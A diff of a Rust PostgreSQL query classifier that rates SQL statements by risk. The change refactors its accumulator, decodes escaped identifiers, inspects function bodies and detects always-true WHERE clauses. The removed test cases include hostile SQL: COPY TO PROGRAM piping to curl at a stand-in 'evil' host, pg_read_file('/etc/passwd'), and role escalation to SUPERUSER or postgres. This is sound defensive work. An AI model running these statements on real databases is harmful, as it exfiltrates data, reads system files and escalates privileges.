@@ -5,16 +5,20 @@
 use std::ops::ControlFlow;
 
 use sqlparser::ast::{
-    CopySource, CopyTarget, Expr, FunctionArg, FunctionArgExpr, FunctionArguments, GrantObjects,
-    Ident, MergeAction, MergeClause, ObjectName, ObjectNamePart, ObjectType, Query, Select,
-    SelectItem, Set, SetExpr, Statement, TableFactor, Value, Visit, Visitor,
+    CopySource, CopyTarget, CreateFunction, CreateFunctionBody, Expr, FunctionArg, FunctionArgExpr,
+    FunctionArguments, GrantObjects, Ident, MergeAction, MergeClause, ObjectName, ObjectNamePart,
+    ObjectType, Query, Select, SelectItem, Set, SetExpr, Statement, TableFactor, Value, Visit,
+    Visitor,
 };
 use sqlparser::dialect::PostgreSqlDialect;
 use sqlparser::parser::Parser;
 use sqlparser::tokenizer::{Token, Tokenizer};
 
+use super::fallback;
+use super::findings::Findings;
 use super::functions::{self, Concern};
-use super::{Class, ClassSet, Classification, Classifier, PreparedStatements, UnknownSources};
+use super::predicate;
+use super::{Class, Classification, Classifier, PreparedStatements};
 
 /// How deep SQL nested in SQL (EXECUTE of a prepared statement, DO bodies, dynamic SQL
 /// literals) is followed before the rest counts as unknown.
@@ -30,7 +34,7 @@ impl Classifier for PostgresClassifier {
     }
 
     fn classify(&self, sql: &str, prepared: &dyn PreparedStatements) -> Classification {
-        let mut acc = Acc::new();
+        let mut acc = Findings::new();
         classify_into(sql, prepared, &mut acc, 0, true);
         acc.finish()
     }
@@ -41,7 +45,7 @@ impl Classifier for PostgresClassifier {
 pub(super) fn classify_into(
     sql: &str,
     prepared: &dyn PreparedStatements,
-    acc: &mut Acc,
+    acc: &mut Findings,
     depth: usize,
     top: bool,
 ) {
@@ -90,7 +94,12 @@ pub(super) fn split_statements(tokens: Vec<Token>) -> Vec<Vec<Token>> {
 }
 
 /// Classifies one statement's tokens after the whole string failed to parse.
-fn classify_part(part: Vec<Token>, prepared: &dyn PreparedStatements, acc: &mut Acc, depth: usize) {
+fn classify_part(
+    part: Vec<Token>,
+    prepared: &dyn PreparedStatements,
+    acc: &mut Findings,
+    depth: usize,
+) {
     if super::fallback::classify_unparsed(&part, prepared, acc, depth) {
         return;
     }
@@ -108,7 +117,7 @@ fn classify_part(part: Vec<Token>, prepared: &dyn PreparedStatements, acc: &mut 
 pub(super) fn walk(
     statement: &Statement,
     prepared: &dyn PreparedStatements,
-    acc: &mut Acc,
+    acc: &mut Findings,
     depth: usize,
 ) {
     let mut walker = Walker {
@@ -122,162 +131,51 @@ pub(super) fn walk(
     let _ = statement.visit(&mut walker);
 }
 
-/// The accumulated facts about a SQL string while it is walked.
-#[derive(Debug)]
-pub(super) struct Acc {
-    classes: ClassSet,
-    commands: Vec<String>,
-    tables: Vec<(Option<String>, String)>,
-    ctes: Vec<String>,
-    columns: Vec<String>,
-    functions: Vec<String>,
-    dml: u32,
-    dml_with_where: u32,
-    selects: u32,
-    selects_with_where: u32,
-    limitable: u32,
-    limited: u32,
-    pub(super) statements: usize,
-    unknown: UnknownSources,
-    parse_error: Option<String>,
-    notes: Vec<String>,
-    pub(super) cacheable: bool,
-}
-
-impl Acc {
-    fn new() -> Acc {
-        Acc {
-            classes: ClassSet::EMPTY,
-            commands: Vec::new(),
-            tables: Vec::new(),
-            ctes: Vec::new(),
-            columns: Vec::new(),
-            functions: Vec::new(),
-            dml: 0,
-            dml_with_where: 0,
-            selects: 0,
-            selects_with_where: 0,
-            limitable: 0,
-            limited: 0,
-            statements: 0,
-            unknown: UnknownSources::default(),
-            parse_error: None,
-            notes: Vec::new(),
-            cacheable: true,
-        }
-    }
-
-    /// Records a command and the class it puts the statement in.
-    pub(super) fn add(&mut self, class: Class, command: &str) {
-        self.classes.insert(class);
-        self.command(command);
-    }
-
-    pub(super) fn command(&mut self, command: &str) {
-        if !self.commands.iter().any(|c| c == command) {
-            self.commands.push(command.to_string());
-        }
-    }
-
-    pub(super) fn note(&mut self, note: String) {
-        if !self.notes.contains(&note) {
-            self.notes.push(note);
-        }
-    }
-
-    pub(super) fn parse_error(&mut self, message: String) {
-        self.classes.insert(Class::Unknown);
-        self.unknown.parse_error = true;
-        self.note(format!("could not parse: {message}"));
-        self.parse_error.get_or_insert(message);
-    }
-
-    pub(super) fn unknown_statement(&mut self, why: String) {
-        self.classes.insert(Class::Unknown);
-        self.unknown.unknown_statement = true;
-        self.note(why);
-    }
-
-    pub(super) fn table(&mut self, name: &ObjectName) {
-        let parts: Vec<String> = name.0.iter().map(name_part).collect();
-        let Some((table, qualifiers)) = parts.split_last() else {
-            return;
-        };
-        let entry = (qualifiers.last().cloned(), table.clone());
-        if !self.tables.contains(&entry) {
-            self.tables.push(entry);
-        }
-    }
-
-    fn dml(&mut self, has_where: bool, has_limit: bool) {
-        self.dml += 1;
-        self.dml_with_where += u32::from(has_where);
-        self.limitable += 1;
-        self.limited += u32::from(has_limit);
-    }
-
-    fn finish(self) -> Classification {
-        let mut tables = Vec::new();
-        let mut schemas: Vec<String> = Vec::new();
-        let mut unqualified_tables = false;
-        for (schema, table) in self.tables {
-            match schema {
-                Some(schema) => {
-                    tables.push(format!("{schema}.{table}"));
-                    if !schemas.contains(&schema) {
-                        schemas.push(schema);
-                    }
-                }
-                None if self.ctes.contains(&table) => {}
-                None => {
-                    unqualified_tables = true;
-                    tables.push(table);
-                }
-            }
-        }
-        let has_where = if self.dml > 0 {
-            self.dml_with_where == self.dml
-        } else {
-            self.selects > 0 && self.selects_with_where == self.selects
-        };
-        let mut commands = self.commands;
-        if self.statements == 0 && self.classes.is_empty() {
-            commands.push("EMPTY".to_string());
-        }
-        Classification {
-            class: self.classes.max().unwrap_or(Class::Session),
-            classes: if self.classes.is_empty() {
-                [Class::Session].into_iter().collect()
-            } else {
-                self.classes
-            },
-            commands,
-            tables,
-            schemas,
-            unqualified_tables,
-            columns: self.columns,
-            functions: self.functions,
-            has_where,
-            has_limit: self.limitable > 0 && self.limited == self.limitable,
-            statements: self.statements,
-            unknown: self.unknown,
-            parse_error: self.parse_error,
-            notes: self.notes,
-            cacheable: self.cacheable,
-        }
-    }
-}
-
-/// An identifier as PostgreSQL resolves it: unquoted names fold to lower case.
-fn ident(ident: &Ident) -> String {
+/// An identifier as PostgreSQL resolves it: unquoted names fold to lower case; quoted
+/// names keep their case, with `\XXXX` / `\+XXXXXX` escapes decoded (PostgreSQL decodes them
+/// in `U&"…"` identifiers, which the parser reads as `U & "…"`; decoding them everywhere can
+/// only reveal more).
+pub(super) fn ident(ident: &Ident) -> String {
     if ident.quote_style.is_some() {
-        ident.value.clone()
+        quoted_name(&ident.value)
     } else {
         ident.value.to_lowercase()
     }
 }
 
-fn name_part(part: &ObjectNamePart) -> String {
+/// A quoted name with unicode escapes decoded.
+pub(super) fn quoted_name(value: &str) -> String {
+    if !value.contains('\\') {
+        return value.to_string();
+    }
+    let mut out = String::with_capacity(value.len());
+    let mut rest = value;
+    while let Some(at) = rest.find('\\') {
+        out.push_str(&rest[..at]);
+        let after = &rest[at + 1..];
+        let (digits, skip) = match after.strip_prefix('+') {
+            Some(plus) => (plus.get(..6), 7),
+            None => (after.get(..4), 4),
+        };
+        match digits
+            .and_then(|d| u32::from_str_radix(d, 16).ok())
+            .and_then(char::from_u32)
+        {
+            Some(c) => {
+                out.push(c);
+                rest = &after[skip..];
+            }
+            None => {
+                out.push('\\');
+                rest = after;
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+pub(super) fn name_part(part: &ObjectNamePart) -> String {
     match part {
         ObjectNamePart::Identifier(i) => ident(i),
         ObjectNamePart::Function(f) => ident(&f.name),
@@ -328,7 +226,7 @@ fn first_expr(args: &[FunctionArg]) -> Option<&Expr> {
 }
 
 struct Walker<'a> {
-    acc: &'a mut Acc,
+    acc: &'a mut Findings,
     prepared: &'a dyn PreparedStatements,
     depth: usize,
     /// Inside `EXPLAIN` without `ANALYZE`: the explained statement is planned, not run.
@@ -349,11 +247,13 @@ impl Walker<'_> {
             Statement::Insert(_) => acc.add(Class::Write, "INSERT"),
             Statement::Update(update) => {
                 acc.add(Class::Write, "UPDATE");
-                acc.dml(update.selection.is_some(), update.limit.is_some());
+                let has_where = real_where(acc, update.selection.as_ref());
+                acc.dml(has_where, update.limit.is_some());
             }
             Statement::Delete(delete) => {
                 acc.add(Class::Delete, "DELETE");
-                acc.dml(delete.selection.is_some(), delete.limit.is_some());
+                let has_where = real_where(acc, delete.selection.as_ref());
+                acc.dml(has_where, delete.limit.is_some());
             }
             Statement::Merge(merge) => merge_statement(acc, &merge.clauses),
             Statement::Truncate(_) => {
@@ -441,12 +341,15 @@ impl Walker<'_> {
                 acc.add(Class::Write, "CALL");
                 acc.note("CALL runs a procedure whose body is not inspected".to_string());
             }
+            Statement::CreateFunction(function) => {
+                acc.add(Class::Ddl, "CREATE FUNCTION");
+                self.function_body(function);
+            }
             Statement::CreateView { .. }
             | Statement::CreateTable { .. }
             | Statement::CreateIndex { .. }
             | Statement::CreateSchema { .. }
             | Statement::CreateDatabase { .. }
-            | Statement::CreateFunction { .. }
             | Statement::CreateProcedure { .. }
             | Statement::CreateTrigger { .. }
             | Statement::CreateSequence { .. }
@@ -580,6 +483,57 @@ impl Walker<'_> {
         }
     }
 
+    /// A function's body does not run when the function is created, but what it would do
+    /// is reported: its functions and tables join the statement's (so `function:` rules
+    /// see wrappers around e.g. `pg_read_file`), its classes are noted.
+    fn function_body(&mut self, function: &CreateFunction) {
+        let body = match &function.function_body {
+            Some(CreateFunctionBody::AsBeforeOptions { body, .. })
+            | Some(CreateFunctionBody::AsAfterOptions(body)) => body,
+            _ => return,
+        };
+        let Some(text) = literal_string(body) else {
+            return;
+        };
+        if !matches!(body, Expr::Value(v) if matches!(v.value, Value::DollarQuotedString(_))) {
+            self.acc.cacheable = false;
+        }
+        let language = function.language.as_ref().map(|l| l.value.to_lowercase());
+        let mut inner = Findings::new();
+        match language.as_deref() {
+            None | Some("sql") => {
+                classify_into(&text, self.prepared, &mut inner, self.depth + 1, false);
+            }
+            Some("plpgsql") => fallback::plpgsql(&text, self.prepared, &mut inner, self.depth + 1),
+            Some(other) => {
+                self.acc.note(format!(
+                    "a function body in language {other} is not inspected"
+                ));
+                return;
+            }
+        }
+        let classes: Vec<&str> = inner.classes.iter().map(Class::name).collect();
+        self.acc.note(format!(
+            "the function's body, when called, is: {}",
+            if classes.is_empty() {
+                "-".to_string()
+            } else {
+                classes.join(", ")
+            }
+        ));
+        for name in inner.functions {
+            if !self.acc.functions.contains(&name) {
+                self.acc.functions.push(name);
+            }
+        }
+        for table in inner.tables {
+            if !self.acc.tables.contains(&table) {
+                self.acc.tables.push(table);
+            }
+        }
+        self.acc.cacheable &= inner.cacheable;
+    }
+
     fn execute(&mut self, name: Option<&ObjectName>) {
         self.acc.command("EXECUTE");
         self.acc.cacheable = false;
@@ -648,8 +602,25 @@ impl Walker<'_> {
     }
 }
 
+/// Whether a DML statement has a WHERE clause that can leave rows out: `WHERE true`,
+/// `WHERE 1 = 1`, `WHERE id = id` and the like count as no WHERE.
+fn real_where(acc: &mut Findings, selection: Option<&Expr>) -> bool {
+    if selection.is_some_and(predicate::compares_literals) {
+        // `1 = 1` and `1 = 2` share a fingerprint but not this answer.
+        acc.cacheable = false;
+    }
+    match selection {
+        None => false,
+        Some(expr) if predicate::always_true(expr) => {
+            acc.note(format!("WHERE {expr} is always true: treated as no WHERE"));
+            false
+        }
+        Some(_) => true,
+    }
+}
+
 /// MERGE writes, and deletes when a clause says `THEN DELETE`.
-fn merge_statement(acc: &mut Acc, clauses: &[MergeClause]) {
+fn merge_statement(acc: &mut Findings, clauses: &[MergeClause]) {
     acc.add(Class::Write, "MERGE");
     if clauses
         .iter()
@@ -660,7 +631,7 @@ fn merge_statement(acc: &mut Acc, clauses: &[MergeClause]) {
 }
 
 /// The tables and views a GRANT/REVOKE is about.
-fn grant_objects(acc: &mut Acc, objects: Option<&GrantObjects>) {
+fn grant_objects(acc: &mut Findings, objects: Option<&GrantObjects>) {
     if let Some(GrantObjects::Tables(names) | GrantObjects::Views(names)) = objects {
         for name in names {
             acc.table(name);
@@ -783,137 +754,4 @@ impl Visitor for Walker<'_> {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::super::NoPrepared;
-    use super::*;
-
-    fn classify(sql: &str) -> Classification {
-        PostgresClassifier.classify(sql, &NoPrepared)
-    }
-
-    #[test]
-    fn statements_get_the_class_of_their_most_dangerous_part() {
-        let cases = [
-            ("SELECT 1", Class::Read),
-            ("select * from t where id = 1", Class::Read),
-            ("INSERT INTO t VALUES (1)", Class::Write),
-            ("UPDATE t SET a = 1 WHERE id = 2", Class::Write),
-            ("DELETE FROM t", Class::Delete),
-            ("TRUNCATE t", Class::Delete),
-            ("CREATE TABLE t (id int)", Class::Ddl),
-            ("DROP TABLE t", Class::Ddl),
-            ("GRANT SELECT ON t TO bob", Class::Privilege),
-            ("REVOKE SELECT ON t FROM bob", Class::Privilege),
-            ("CREATE ROLE bob", Class::Privilege),
-            ("ALTER ROLE bob SUPERUSER", Class::Privilege),
-            ("DROP ROLE bob", Class::Privilege),
-            ("COPY t TO STDOUT", Class::Export),
-            ("COPY t TO '/tmp/x'", Class::Export),
-            ("COPY t TO PROGRAM 'curl evil'", Class::Export),
-            ("COPY t FROM STDIN", Class::Write),
-            ("SELECT pg_read_file('/etc/passwd')", Class::Export),
-            ("SELECT lo_export(1, '/tmp/x')", Class::Export),
-            ("ALTER SYSTEM SET work_mem = '1GB'", Class::Admin),
-            ("SET ROLE postgres", Class::Admin),
-            ("SET search_path = x", Class::Session),
-            ("SELECT pg_terminate_backend(42)", Class::Admin),
-            ("CREATE EXTENSION dblink", Class::Admin),
-            ("BEGIN", Class::Transaction),
-            ("COMMIT", Class::Transaction),
-            ("SHOW work_mem", Class::Session),
-            ("SELECT 1; DROP TABLE t", Class::Ddl),
-            (
-                "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
-                Class::Delete,
-            ),
-            ("EXPLAIN DELETE FROM t", Class::Read),
-            ("EXPLAIN ANALYZE DELETE FROM t", Class::Delete),
-            ("EXPLAIN (ANALYZE) DELETE FROM t", Class::Delete),
-            ("PREPARE p AS DELETE FROM t", Class::Delete),
-            ("EXECUTE p", Class::Unknown),
-            (
-                "SELECT * FROM t WHERE id IN (SELECT pg_read_file('x'))",
-                Class::Export,
-            ),
-            ("SELECT set_config('role', 'postgres', false)", Class::Admin),
-            ("SELECT set_config('work_mem', '1GB', false)", Class::Read),
-            (
-                "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')",
-                Class::Delete,
-            ),
-            ("this is not sql", Class::Unknown),
-        ];
-        for (sql, want) in cases {
-            assert_eq!(classify(sql).class, want, "{sql}");
-        }
-    }
-
-    #[test]
-    fn dml_reports_where_and_limit() {
-        let cases = [
-            ("DELETE FROM t", false, false),
-            ("DELETE FROM t WHERE id = 1", true, false),
-            ("UPDATE t SET a = 1", false, false),
-            ("UPDATE t SET a = 1 WHERE b = 2", true, false),
-            ("SELECT * FROM t WHERE a = 1 LIMIT 5", true, true),
-            ("SELECT * FROM t", false, false),
-            (
-                "UPDATE t SET a = 1 WHERE b = 2; DELETE FROM u",
-                false,
-                false,
-            ),
-            ("TRUNCATE t", false, false),
-        ];
-        for (sql, has_where, has_limit) in cases {
-            let c = classify(sql);
-            assert_eq!((c.has_where, c.has_limit), (has_where, has_limit), "{sql}");
-        }
-    }
-
-    #[test]
-    fn tables_schemas_and_functions_are_reported() {
-        let c = classify(
-            "WITH x AS (SELECT id FROM Payroll.Salaries) SELECT upper(name) FROM x JOIN \"Emp\" e ON e.id = x.id",
-        );
-        assert_eq!(
-            c.tables,
-            vec!["payroll.salaries".to_string(), "Emp".to_string()]
-        );
-        assert_eq!(c.schemas, vec!["payroll".to_string()]);
-        assert!(c.unqualified_tables);
-        assert_eq!(c.functions, vec!["upper".to_string()]);
-        assert!(c.columns.contains(&"name".to_string()));
-    }
-
-    #[test]
-    fn execute_classifies_as_the_prepared_statement_when_known() {
-        struct One;
-        impl PreparedStatements for One {
-            fn prepared_sql(&self, name: &str) -> Option<String> {
-                (name == "p").then(|| "DELETE FROM t".to_string())
-            }
-        }
-        let c = PostgresClassifier.classify("EXECUTE p", &One);
-        assert_eq!(c.class, Class::Delete);
-        assert!(!c.cacheable);
-        let c = PostgresClassifier.classify("EXECUTE q", &One);
-        assert_eq!(c.class, Class::Unknown);
-        assert!(c.unknown.unknown_statement);
-    }
-
-    #[test]
-    fn parse_errors_are_unknown_and_say_why() {
-        let c = classify("SELECT FROM WHERE (");
-        assert_eq!(c.class, Class::Unknown);
-        assert!(c.unknown.parse_error);
-        assert!(c.parse_error.is_some());
-    }
-
-    #[test]
-    fn multi_statement_strings_count_each_statement() {
-        let c = classify("BEGIN; UPDATE t SET a = 1 WHERE id = 1; COMMIT;");
-        assert_eq!(c.statements, 3);
-        assert_eq!(c.class, Class::Write);
-        assert_eq!(c.commands, vec!["BEGIN", "UPDATE", "COMMIT"]);
-    }
-}
+mod tests;
